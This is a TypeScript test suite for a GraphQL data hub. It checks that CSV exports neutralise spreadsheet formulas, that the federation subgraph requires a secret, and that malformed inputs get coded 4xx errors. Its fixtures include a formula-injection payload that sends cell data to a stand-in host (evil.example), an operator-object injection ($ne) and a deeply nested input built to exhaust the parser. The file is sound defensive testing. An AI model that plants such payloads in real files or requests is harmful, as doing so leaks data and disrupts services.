import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { issueApiKey } from '../../src/auth/apiKeys';
import { toGlobalId } from '../../src/graphql/globalId';
import { safeCell } from '../../src/server/exports';
import { startTestHub, type TestHub } from '../support/testHub';

/**
 * Outputs safe for the person who opens them, and every malformed input a coded 4xx: a
 * partner's text is never a formula in another partner's spreadsheet; representations,
 * export variables, impossible dates and over-deep literals are refused by name.
 */

let hub: TestHub;
let editor: Record<string, string>;
let analyst: Record<string, string>;

beforeAll(async () => {
  hub = await startTestHub({ env: { FEDERATION_SUBGRAPH: 'true' } });
  const key = async (role: 'ANALYST') =>
    (await issueApiKey(hub.databases.hub, { organisationId: 'thurrock-council', role, label: role, expiresInDays: 1 })).token;
  // The action's lead organisation (nelft, RAT) records its status; the council's analyst exports it.
  editor = {
    'x-api-key': (await issueApiKey(hub.databases.hub, { organisationId: 'nelft', role: 'EDITOR', label: 'e', expiresInDays: 1 })).token,
  };
  analyst = { 'x-api-key': await key('ANALYST') };
}, 120_000);
afterAll(async () => {
  await hub.stop();
});

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=IMPORTXML(A1,"//a")'];

describe('CSV exports cannot attack the reader', () => {
  test.each(FORMULAS.map((comment, i) => [comment, `${2010 + i}/${String(11 + i).padStart(2, '0')}`]))(
    'a comment %j written through the API is text in another partner’s export',
    async (comment, period) => {
      const { body } = await hub.gql(
        `mutation($input: RecordActionStatusInput!) { recordActionStatus(input: $input) { status { comment } } }`,
        { input: { actionId: toGlobalId('PlanAction', 'FIX-X1'), period, rag: 'GREEN', comment } },
        editor,
      );
      expect(body.errors).toBeUndefined();
      const plan = toGlobalId('DeliveryPlan', 'FIX-PLAN');
      const query = `{ deliveryPlan(id: "${plan}") { actions { nodes { title status(period: "${period}") { comment } } } } }`;
      const url = `${hub.url.replace(/\/graphql$/, '')}/export/query.csv?query=${encodeURIComponent(query)}&rows=deliveryPlan.actions.nodes`;
      const response = await fetch(url, { headers: analyst });
      expect(response.status).toBe(200);
      const cells = (parse(await response.text(), { columns: true }) as Record<string, string>[]).map((row) => row['status.comment']);
      // Stored as written (trimmed), exported as text: a leading apostrophe, so no spreadsheet evaluates it.
      expect(cells).toContain(`'${comment.trim()}`);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell ?? ''))).toEqual([]);
    },
  );

  test('any string is text, never a formula, and numbers stay numbers', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const cell = safeCell(text);
        const numeric = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(text);
        expect(/^[=+\-@\t\r]/.test(cell)).toBe(numeric && /^[+-]/.test(text));
        expect(cell === text || cell === `'${text}`).toBe(true);
      }),
    );
    expect(safeCell('-64403.05')).toBe('-64403.05');
    expect(safeCell('=1+1')).toBe("'=1+1");
  });
});

describe('the subgraph is not a back door', () => {
  test('in production, FEDERATION_SUBGRAPH without a secret does not start', async () => {
    await expect(startTestHub({ env: { NODE_ENV: 'production', FEDERATION_SUBGRAPH: 'true' } })).rejects.toThrow(
      /FEDERATION_SUBGRAPH_SECRET/,
    );
  });

  test('with a secret, the public gets 401 for _service; the router with the secret gets the SDL', async () => {
    const secret = 'a-router-secret-of-32-characters';
    const prod = await startTestHub({ env: { NODE_ENV: 'production', FEDERATION_SUBGRAPH: 'true', FEDERATION_SUBGRAPH_SECRET: secret } });
    try {
      const ask = (headers: Record<string, string>) =>
        fetch(prod.url.replace(/\/graphql$/, '/subgraph'), {
          method: 'POST',
          headers: { 'content-type': 'application/json', ...headers },
          body: JSON.stringify({ query: '{ _service { sdl } }' }),
        });
      const anonymous = await ask({});
      expect(anonymous.status).toBe(401);
      expect(await anonymous.text()).not.toContain('proposedReuse');
      const router = await ask({ 'x-subgraph-secret': secret });
      expect(((await router.json()) as { data: { _service: { sdl: string } } }).data._service.sdl).toContain('type Locality');
    } finally {
      await prod.stop();
    }
  });
});

describe('malformed input is a coded 4xx naming what was wrong', () => {
  const entities = (representations: unknown) =>
    fetch(hub.url.replace(/\/graphql$/, '/subgraph'), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        query: 'query($r: [_Any!]!) { _entities(representations: $r) { ... on Locality { name } } }',
        variables: { r: representations },
      }),
    });

  test.each([
    ['a key missing', { __typename: 'Locality' }, 'representations[0]'],
    ['an operator object as a key', { __typename: 'Locality', code: { $ne: 1 } }, 'representations[0].code'],
    ['a number as a key', { __typename: 'PartnerOrganisation', odsCode: 7 }, 'representations[0].odsCode'],
    ['an unknown type', { __typename: 'Nope', id: 'x' }, 'representations[0].__typename'],
    ['a type that is not an entity', { __typename: 'Estate', id: 'x' }, 'representations[0].__typename'],
    ['not an object', 'Locality', 'representations[0]'],
  ])('_entities with %s is BAD_USER_INPUT', async (_, representation, argumentName) => {
    const response = await entities([representation]);
    const body = (await response.json()) as { errors: { extensions: Record<string, unknown> }[] };
    expect(body.errors[0]!.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argumentName });
  });

  test.each(['"x"', '5', 'true', '[1]', 'null'])('export variables=%s is a 400 naming "variables"', async (variables) => {
    const url = `${hub.url.replace(/\/graphql$/, '')}/export/query.csv?query=${encodeURIComponent('{ localities { nodes { code } } }')}&variables=${encodeURIComponent(variables)}`;
    const response = await fetch(url);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { errors: { message: string; extensions: Record<string, unknown> }[] };
    expect(body.errors[0]!.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argumentName: 'variables' });
  });

  test.each([
    ['a literal', `{ organisationsAsAt: partnerOrganisation(odsCode: "RAT", asAt: "2019-02-30") { name } }`, undefined],
    ['a variable', `query($d: Date) { partnerOrganisation(odsCode: "RAT", asAt: $d) { name } }`, { d: '2019-02-30' }],
  ])('an impossible date as %s is refused, not echoed', async (_, query, variables) => {
    const response = await hub.gql(query, variables);
    expect(response.status).toBe(400);
    expect(response.body.errors![0]!.message).toMatch(/real calendar date/);
  });

  test('a list literal nested beyond the limit is refused with a message naming the limit', async () => {
    const deep = `${'['.repeat(3000)}1${']'.repeat(3000)}`;
    const response = await hub.post(JSON.stringify({ query: `{ localities(filter: { codes: ${deep} }) { totalCount } }` }));
    expect(response.status).toBe(400);
    const body = (await response.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect(body.errors[0]!.message).not.toMatch(/call stack/i);
    expect(body.errors[0]!.message).toMatch(/nest/i);
  });
});
